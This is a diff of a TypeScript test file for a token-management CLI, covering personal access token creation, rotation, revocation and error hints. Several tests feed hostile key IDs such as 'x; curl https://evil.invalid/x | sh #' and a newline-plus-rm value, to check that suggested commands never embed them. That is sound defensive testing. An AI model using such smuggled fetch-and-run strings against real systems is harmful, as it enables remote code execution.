@@ -1,7 +1,9 @@
 import { existsSync, readFileSync } from "node:fs"
 import { join } from "node:path"
 import { describe, expect, it } from "vitest"
-import { type Answer, startScripted } from "../support/http/server.ts"
+import { newToken } from "../support/fixtures.ts"
+import { type Answer, json, text } from "../support/http/answer.ts"
+import { startScripted } from "../support/http/scripted.ts"
 import { startGate } from "../support/program/gate.ts"
 import { binary, noFullDevice, program, runCli } from "../support/program/program.ts"
 import { startSandbox, temporaryFolder } from "../support/sandbox.ts"
@@ -10,35 +12,38 @@ const id = "law-hotel-shape-community"
 const create = ["pat", "create", "CI", "--scope", "job"]
 
 describe.concurrent("an API that does not offer it", () => {
-  it.for<[answer: Answer]>([
-    [[404, { message: "Not Found" }]],
-    [[405, {}]],
-    [[501, {}]],
-    [[403, { message: "Missing Authentication Token" }]],
-  ])("says so of signing in with a password (%j)", async ([answer], { expect, onTestFinished }) => {
-    const { env } = await startScripted({ "POST /login": answer }, onTestFinished)
-    const { ZPOOLPAT: _, ...rest } = env
-    const ran = await runCli(["hello"], {
-      env: { ...rest, ZPOOL_USER: "ada", ZPOOL_PASSWORD: "secret" },
-    })
-    expect(ran).toMatchObject({ code: 1, stdout: "" })
-    expect(ran.stderr).toContain("does not offer signing in with username and password")
-    expect(ran.stderr).toContain("/dashboard/tokens and run zpcli login, or set ZPOOLPAT to it")
-  })
+  const refusals: ReadonlyArray<Answer> = [
+    json(404, { message: "Not Found" }),
+    json(405, {}),
+    json(501, {}),
+    json(403, { message: "Missing Authentication Token" }),
+  ]
 
-  it.for<[answer: Answer]>([
-    [[404, { message: "Not Found" }]],
-    [[405, {}]],
-    [[501, {}]],
-    [[403, { message: "Missing Authentication Token" }]],
-  ])("says so of making PATs, with the page that does (%j)", async ([answer], { expect, onTestFinished }) => {
-    const { env } = await startScripted({ "POST /pat": answer }, onTestFinished)
-    const ran = await runCli([...create, "--json"], { env })
-    expect(ran).toMatchObject({ code: 1, stdout: "" })
-    const { error } = JSON.parse(ran.stderr)
-    expect(error).toMatchObject({ type: "NotOffered", exitCode: 1 })
-    expect(error.hint).toContain("/dashboard/tokens?create=1&label=CI&scopes=job")
-  })
+  it.for(refusals)(
+    "says so of signing in with a password (%j)",
+    async (answer, { expect, onTestFinished }) => {
+      const { env } = await startScripted({ "POST /login": answer }, { onFinished: onTestFinished })
+      const { ZPOOLPAT: _, ...rest } = env
+      const ran = await runCli(["hello"], {
+        env: { ...rest, ZPOOL_USER: "ada", ZPOOL_PASSWORD: "secret" },
+      })
+      expect(ran).toMatchObject({ code: 1, stdout: "" })
+      expect(ran.stderr).toContain("does not offer signing in with username and password")
+      expect(ran.stderr).toContain("/dashboard/tokens and run zpcli login, or set ZPOOLPAT to it")
+    },
+  )
+
+  it.for(refusals)(
+    "says so of making PATs, with the page that does (%j)",
+    async (answer, { expect, onTestFinished }) => {
+      const { env } = await startScripted({ "POST /pat": answer }, { onFinished: onTestFinished })
+      const ran = await runCli([...create, "--json"], { env })
+      expect(ran).toMatchObject({ code: 1, stdout: "" })
+      const { error } = JSON.parse(ran.stderr)
+      expect(error).toMatchObject({ type: "NotOffered", exitCode: 1 })
+      expect(error.hint).toContain("/dashboard/tokens?create=1&label=CI&scopes=job")
+    },
+  )
 
   it("is what a sandbox acts out", async ({ expect }) => {
     const { code, stderr } = await runCli([
@@ -55,7 +60,10 @@ describe.concurrent("an API that does not offer it", () => {
   })
 
   it("does not take a page that blocks us for a missing scope", async ({ expect, onTestFinished }) => {
-    const { env } = await startScripted({ "POST /pat": [403, "<html>Blocked</html>"] }, onTestFinished)
+    const { env } = await startScripted(
+      { "POST /pat": text(403, "<html>Blocked</html>") },
+      { onFinished: onTestFinished },
+    )
     const ran = await runCli(create, { env })
     expect(ran).toMatchObject({ code: 4, stdout: "" })
     expect(ran.stderr).not.toContain("scope pat")
@@ -70,9 +78,9 @@ describe.concurrent("a create that is answered", () => {
   ])("%s names the PAT that came", async ([, token], { expect, onTestFinished }) => {
     const { env, requests } = await startScripted(
       {
-        "POST /pat": [201, { message: "PAT created", detail: { key_id: id, token } }],
+        "POST /pat": json(201, { message: "PAT created", detail: { key_id: id, token } }),
       },
-      onTestFinished,
+      { onFinished: onTestFinished },
     )
     const ran = await runCli([...create, "--json"], { env })
     expect(ran).toMatchObject({ code: 7, stdout: "" })
@@ -83,8 +91,8 @@ describe.concurrent("a create that is answered", () => {
   it("with the token that signs in has given no token", async ({ expect, onTestFinished }) => {
     const own = "zpat_0123456789abcdef"
     const { env } = await startScripted(
-      { "POST /pat": [201, { message: "PAT created", detail: { key_id: id, token: own } }] },
-      onTestFinished,
+      { "POST /pat": json(201, { message: "PAT created", detail: { key_id: id, token: own } }) },
+      { onFinished: onTestFinished },
     )
     const ran = await runCli([...create, "--json"], { env })
     expect(ran).toMatchObject({ code: 7, stdout: "" })
@@ -96,17 +104,16 @@ describe.concurrent("a create that is answered", () => {
     expect,
     onTestFinished,
   }) => {
-    const token = "zpat_NewNewNewNewNewNewNewNew0000"
     const { env } = await startScripted(
-      { "POST /pat": [201, { message: "PAT created", detail: { key_id: token, token } }] },
-      onTestFinished,
+      { "POST /pat": json(201, { message: "PAT created", detail: { key_id: newToken, token: newToken } }) },
+      { onFinished: onTestFinished },
     )
     for (const flags of [[], ["--json"]]) {
       const out = join(temporaryFolder(onTestFinished), "token")
       const ran = await runCli([...create, "--out", out, ...flags], { env })
       expect(ran.code).toBe(0)
-      expect(ran.stdout + ran.stderr).not.toContain(token)
-      expect(readFileSync(out, "utf8")).toBe(token)
+      expect(ran.stdout + ran.stderr).not.toContain(newToken)
+      expect(readFileSync(out, "utf8")).toBe(newToken)
     }
   })
 
@@ -117,10 +124,10 @@ describe.concurrent("a create that is answered", () => {
     const item = { key_id: id, label: "CI", status: "active", scopes: ["job"] }
     const { env, requests } = await startScripted(
       {
-        "GET /pat": [200, { message: "ok", detail: { items: [item] } }],
-        "POST /pat": [201, { message: "ok", detail: { key_id: id, token: "zpat_fedcba9876543210" } }],
+        "GET /pat": json(200, { message: "ok", detail: { items: [item] } }),
+        "POST /pat": json(201, { message: "ok", detail: { key_id: id, token: "zpat_fedcba9876543210" } }),
       },
-      onTestFinished,
+      { onFinished: onTestFinished },
     )
     for (const delivery of [["--token-only"], ["--", "cat"]]) {
       const ran = await runCli(["pat", "rotate", id, "--yes", ...delivery], { env })
@@ -130,33 +137,15 @@ describe.concurrent("a create that is answered", () => {
     }
     expect(requests.filter((request) => !request.startsWith("GET"))).toEqual(["POST /pat", "POST /pat"])
   })
-
-  it("with a hostile key ID suggests nothing to run with it", async ({ expect, onTestFinished }) => {
-    const { env } = await startScripted(
-      {
-        "POST /pat": [201, { message: "ok", detail: { key_id: "x; curl evil.test | sh #" } }],
-      },
-      onTestFinished,
-    )
-    const ran = await runCli(create, { env })
-    expect(ran.code).toBe(7)
-    expect(ran.stderr).not.toContain("revoke x; curl")
-    expect(ran.stderr).toContain("zpcli pat list")
-  })
 })
 
 describe("a token that can't be handed over", () => {
-  const statuses = async (sandbox: Awaited<ReturnType<typeof startSandbox>>) => {
-    const { items } = (await sandbox.call("GET", "/pat")) as { items: ReadonlyArray<{ status: string }> }
-    return items.map(({ status }) => status)
-  }
-
   it.skipIf(noFullDevice)("is taken back: its PAT is revoked", async () => {
     const sandbox = await startSandbox()
     const ran = await runCli([...create, "--token-only"], { env: sandbox.env, stdout: "/dev/full" })
     expect(ran.code, ran.stderr).toBe(9)
     expect(ran.stderr).toContain("was revoked")
-    expect(await statuses(sandbox)).toEqual(["revoked"])
+    expect(await sandbox.statuses()).toEqual(["revoked"])
   })
 
   it.skipIf(noFullDevice)("is at large where that fails too", async () => {
@@ -172,7 +161,7 @@ describe("a token that can't be handed over", () => {
       keyId: id,
       delivered: false,
     })
-    expect(await statuses(sandbox)).toEqual(["active"])
+    expect(await sandbox.statuses()).toEqual(["active"])
   })
 
   it("to a command that leaves its stdin to another process, unread", async () => {
@@ -184,7 +173,7 @@ describe("a token that can't be handed over", () => {
     })
     expect(ran.code, ran.stderr).toBe(9)
     expect(ran.stderr).toContain("did not read the token from its stdin")
-    expect(await statuses(sandbox)).toEqual(["active", "revoked"])
+    expect(await sandbox.statuses()).toEqual(["active", "revoked"])
   })
 
   it("to a command that a signal ends, says so and blames no program", async () => {
@@ -235,7 +224,7 @@ describe("a token that can't be handed over", () => {
       env: { ...sandbox.env, ZPOOL_API_URL: url },
     })
     expect(ran).toMatchObject({ code: 0, stderr: "" })
-    expect(await statuses(sandbox)).toEqual(["revoked", "active"])
+    expect(await sandbox.statuses()).toEqual(["revoked", "active"])
   })
 
   it("to a check that a failing function answers, the old PAT is unchanged", async () => {
@@ -256,7 +245,7 @@ describe("a token that can't be handed over", () => {
       delivered: false,
       exitCode: 9,
     })
-    expect(await statuses(sandbox)).toEqual(["active", "revoked"])
+    expect(await sandbox.statuses()).toEqual(["active", "revoked"])
   })
 })
 
@@ -290,5 +279,67 @@ describe("the successor of a PAT", () => {
     const stopped = await runCli(rotate, { env: { ...sandbox.env, ZPOOL_API_URL: url } })
     expect(stopped.code).toBe(9)
     expect(stopped.stderr).not.toContain("still works")
+  })
+})
+
+const old = "law-hotel-shape-community"
+const hostile = "x; curl https://evil.invalid/x | sh #"
+
+/** An API whose new PAT has this key ID; `lost` drops the answer to the create, `refused` the check of its token. */
+const apiWith = async (keyId: unknown, fault: "lost" | "refused" | "none") => {
+  let made = false
+  const listed = (key_id: unknown) => ({
+    key_id,
+    label: "CI",
+    status: "active",
+    created_at: key_id === old ? "2020-01-01T00:00:00Z" : new Date().toISOString(),
+    scopes: ["job"],
+  })
+  const { env } = await startScripted((request, response) => {
+    if (request.method === "POST") {
+      made = true
+      if (fault === "lost") return request.socket.destroy()
+      response.statusCode = 201
+      return response.end(JSON.stringify({ message: "ok", detail: { key_id: keyId, token: newToken } }))
+    }
+    if (request.method === "DELETE") {
+      response.statusCode = 500
+      return response.end('{"message":"no"}')
+    }
+    if (request.url?.endsWith("/hello")) {
+      if (fault === "refused") response.statusCode = 400
+      return response.end('{"message":"Hello"}')
+    }
+    const items = [listed(old), ...(made ? [listed(keyId)] : [])]
+    return response.end(JSON.stringify({ message: "ok", detail: { items } }))
+  })
+  return env
+}
+
+/** What hints offer to be copied: what follows a colon at the end of a line, or `zpcli pat ...`. */
+const commands = (stderr: string) => stderr.match(/zpcli pat [^\n]*/g) ?? []
+
+describe("a key ID from the server", () => {
+  it.each([
+    ["create whose answer is lost", ["pat", "create", "CI", "--scope", "job"], "lost"],
+    ["rotate whose answer is lost", ["pat", "rotate", old, "--yes"], "lost"],
+    ["rotate whose check fails", ["pat", "rotate", old, "--yes"], "refused"],
+  ] as const)("is not part of a command to copy unless it is one, after a %s", async (_, args, fault) => {
+    for (const keyId of [hostile, "a-b-c-d\nrm", 7]) {
+      const ran = await runCli([...args, ...(keyId === 7 ? ["--json"] : [])], {
+        env: await apiWith(keyId, fault),
+      })
+      expect(ran.code).not.toBe(0)
+      expect(commands(ran.stderr).length).toBeGreaterThan(0)
+      for (const command of commands(ran.stderr)) expect(command).toMatch(/^zpcli pat list(?![\w-])/)
+    }
+  })
+
+  it("is part of it where it has the form of one", async () => {
+    const ran = await runCli(["pat", "create", "CI", "--scope", "job"], {
+      env: await apiWith("new-acorn-birch-cedar", "lost"),
+    })
+    expect(ran.code).toBe(7)
+    expect(ran.stderr).toContain("zpcli pat revoke new-acorn-birch-cedar\n")
   })
 })
